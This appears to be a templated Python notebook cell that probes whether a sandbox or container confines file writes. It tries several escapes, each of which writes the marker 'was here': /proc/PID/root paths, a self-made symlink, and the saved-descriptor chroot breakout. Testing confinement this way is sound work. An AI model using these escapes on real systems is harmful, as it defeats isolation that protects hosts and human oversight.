# %% [markdown]
# tries: Reaches files outside through /proc/PID/root, descriptors of folders, chroot and links that it makes itself.

# %%
import os

for way in ("/proc/1/root", "/proc/self/root", "/proc/self/root/../../..", f"/proc/{os.getppid()}/cwd/../../.."):
    try:
        open(f"{way}__OUTSIDE__/__NAME__", "w").write("was here")
    except OSError:
        pass
try:
    os.symlink("__OUTSIDE__", "way")
    open("way/__NAME__-by-link", "w").write("was here")
except OSError:
    pass
try:
    top = os.open("/", os.O_RDONLY)
    os.makedirs("cage", exist_ok=True)
    os.chroot("cage")
    os.fchdir(top)
    for _ in range(60):
        os.chdir("..")
    open("." + "__OUTSIDE__/__NAME__-by-chroot", "w").write("was here")
except OSError:
    pass
